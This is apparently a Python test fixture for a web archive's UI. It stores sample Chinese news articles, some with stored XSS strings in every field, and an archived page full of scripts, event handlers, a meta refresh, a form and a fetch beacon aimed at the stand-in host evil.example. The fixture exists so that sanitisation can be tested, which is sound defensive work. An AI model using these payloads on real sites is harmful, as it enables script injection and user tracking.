"""The archive the web UI's tests read: tests/exportworld.py's articles (both scripts, an
edited article, a takedown, formula-like cells) stored through the real write path, plus
what a web UI gets wrong: a republication on another site (a cluster), stored markup in
every field (XSS), and an archived page full of scripts, handlers, a meta refresh, a
form and external resources."""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, replace
from datetime import timedelta
from pathlib import Path
from typing import Any

from fastapi import FastAPI
from fastapi.testclient import TestClient

from archive.settings import load_settings
from tests.exportworld import ARTICLES, T0, ExportWorld, make_export_world

#: Copied word for word by another site a day later: one cluster, the first one credited.
ORIGINAL_URL = ARTICLES[0][1]
COPY_URL = "http://www.ycstzb.example.cn/xwdt/2024/0302/135.htm"
XSS = '<script>alert("xss")</script><img src=x onerror=alert(1)>'
XSS_URL = "https://www.zytzb.gov.cn/tzyw/202404/t20240405_9.html"
XSS_FIELDS: dict[str, Any] = {
    "title": f"统战标题{XSS}",
    "publish_time": "2024-04-05T09:00:00+08:00",
    "source": f"来源{XSS}", "editor": f"编辑{XSS}", "author": "作者<b>粗</b>",
    "contributor": "供稿<i>斜</i>",
    "body": f"正文里有统战和标记{XSS}。\n第二段<a href=\"javascript:alert(2)\">链接</a>。",
}  # fmt: skip
HOSTILE_URL = "https://www.zytzb.gov.cn/tzyw/202404/t20240406_10.html"
#: An archived page that would run code and call out, if it were served as it is.
HOSTILE_HTML = """<!doctype html><html><head><meta charset="utf-8">
<meta http-equiv="refresh" content="0; url=https://evil.example/">
<title>统战部召开民主党派座谈会</title>
<script>document.title = "ran"; fetch("https://evil.example/beacon");</script>
<script src="https://evil.example/tracker.js"></script>
<link rel="stylesheet" href="https://evil.example/style.css">
<style>body { background: url(https://evil.example/bg.png); }</style>
<base href="https://evil.example/">
</head>
<body onload="alert('onload')">
<h1>统战部召开民主党派座谈会</h1>
<div class="article">
<p>座谈会上，各民主党派负责人就统一战线工作发言。</p>
<p><img src="https://evil.example/photo.jpg" onerror="alert('onerror')" alt="会场"></p>
<p class="caption">图为座谈会现场。</p>
<p><a href="javascript:alert('js link')">点击这里</a> <a href="/tzyw/other.html">相关文章</a></p>
<form action="https://evil.example/submit" method="post"><input name="q"><button>提交</button></form>
<iframe src="https://evil.example/frame.html"></iframe>
<object data="https://evil.example/x.swf"></object>
<svg><script>alert('svg')</script></svg>
</div>
</body></html>"""
HOSTILE_FIELDS: dict[str, Any] = {
    "title": "统战部召开民主党派座谈会",
    "publish_time": "2024-04-06T10:00:00+08:00",
    "source": "中央统战部网站", "editor": "王明",
    "body": "座谈会上，各民主党派负责人就统一战线工作发言。\n图为座谈会现场。",
}  # fmt: skip


@dataclass
class WebWorld(ExportWorld):
    def app(self, **web: Any) -> FastAPI:
        from web.app import create_app

        settings = load_settings(self.env())
        if web:
            settings = replace(settings, web=settings.web.model_copy(update=web))
        return create_app(settings)

    @contextmanager
    def client(self, **web: Any) -> Iterator[TestClient]:
        """An in-process client (httpx) on the real app and database."""
        with TestClient(self.app(**web), raise_server_exceptions=False) as client:
            yield client


def make_web_world(root: Path, database_url: str) -> WebWorld:
    world = WebWorld(root, database_url)
    base = make_export_world(root, database_url)
    world.ids.update(base.ids)
    _, _, fields = ARTICLES[0]
    world.store("gbk_city", COPY_URL, dict(fields), T0 + timedelta(days=1, hours=1))
    world.store("zytzb", XSS_URL, XSS_FIELDS, T0 + timedelta(days=3))
    world.store(
        "zytzb",
        HOSTILE_URL,
        HOSTILE_FIELDS,
        T0 + timedelta(days=3, hours=1),
        html=HOSTILE_HTML.encode("utf-8"),
    )
    return world
